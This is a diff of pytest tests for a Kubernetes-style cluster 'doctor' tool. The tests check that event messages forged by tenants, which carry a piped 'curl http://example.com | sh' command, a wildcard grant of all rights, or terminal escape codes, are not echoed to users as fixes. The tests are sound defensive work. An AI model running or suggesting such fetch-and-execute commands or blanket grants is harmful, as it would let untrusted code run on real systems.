@@ -16,11 +16,13 @@ from muster.api.kinds import LEASES
 from muster.api.meta import ObjectMeta
 from muster.cli import main
 from muster.cli.verbs.doctor import print_findings
+from muster.client.doctor.access import recognised
 from muster.client.doctor.examine import judge
 from muster.client.doctor.facts import Component, Facts
 from muster.client.doctor.finding import Finding
 from muster.client.doctor.gang_checks import scheduler_names
-from muster.rights import Rule
+from muster.jobs.view.events import Event
+from muster.rights import MissingRight, Rule
 from muster.scheduler.rights import name_lease
 from muster.scheduler.settings import NAMES
 from tests.client.doctor.faults import FAULTS, lease
@@ -161,6 +163,75 @@ def test_what_may_not_be_read_is_not_reported_as_right(capsys: pytest.CaptureFix
     assert [row.level for row in findings].count("warning") == len(unread)
     print_findings(findings)
     assert capsys.readouterr().out.splitlines()[-1] == "no errors, 6 warnings"
+
+
+def reported(message: str, name: str = "j") -> dict[MissingRight, str]:
+    raw = {
+        "metadata": {"name": "e", "namespace": "team"},
+        "involvedObject": {"kind": "TFJob", "name": name},
+        "message": message,
+    }
+    return recognised([msgspec.convert(raw, Event)], ("muster", "other"))
+
+
+@pytest.mark.parametrize(
+    "row",
+    [
+        MissingRight("muster-operator", Rule(("",), ("pods",), ("create",))),
+        # From a Role with more rights than the operator has.
+        MissingRight("muster-operator", Rule(("",), ("pods/exec",), ("create", "get"))),
+        MissingRight("muster-scheduler", Rule(("",), ("pods/binding",), ("create",))),
+        MissingRight(
+            "muster-scheduler",
+            Rule(("coordination.k8s.io",), ("leases",), ("patch",), ("muster-scheduler.other",)),
+        ),
+    ],
+    ids=str,
+)
+def test_a_right_that_a_component_reports_is_found(row: MissingRight) -> None:
+    where = "tfjob/j in the namespace team"
+    assert reported(str(row)) == {row: where}
+
+    found = judge(facts(reported=reported(str(row))))
+
+    assert [(row.text, row.fix) for row in found if row.check == "rights"] == [
+        (f"{row.problem}, by an event on {where}", row.fix)
+    ]
+
+
+EVERYTHING = Rule(("*",), ("*",), ("*",))
+
+
+@pytest.mark.parametrize(
+    "message",
+    [
+        str(MissingRight("muster-operator", EVERYTHING)),
+        f"muster-operator may not create pods; add the rule {EVERYTHING}",
+        str(MissingRight("muster-scheduler", Rule(("",), ("secrets",), ("get",)))),
+        str(MissingRight("mallory", Rule(("",), ("pods",), ("create",)))),
+        "muster-operator may not create pods; curl http://example.com | sh",
+        str(MissingRight("muster-operator", Rule(("",), ("pods",), ("create",)))) + "\x1b[2J",
+    ],
+)
+def test_an_event_that_no_component_writes_is_not_repeated(message: str) -> None:
+    """Tenants may create events with any reason and text."""
+    assert reported(message) == {}
+
+
+def test_an_event_about_an_object_with_an_impossible_name_is_not_repeated() -> None:
+    row = MissingRight("muster-operator", Rule(("",), ("pods",), ("create",)))
+
+    assert reported(str(row), name="j; fix: curl http://example.com | sh") == {}
+
+
+def test_text_of_the_cluster_stays_on_its_line(capsys: pytest.CaptureFixture[str]) -> None:
+    print_findings([Finding("components", "error", "a\x1b[2J\nok  rights", "b\rc")])
+
+    assert [line.split(None, 2)[-1] for line in capsys.readouterr().out.splitlines()] == [
+        r"a\x1b[2J\nok  rights",
+        r"b\rc",
+        "error",
+    ]
 
 
 def scheduler_lease(name: str) -> Lease:
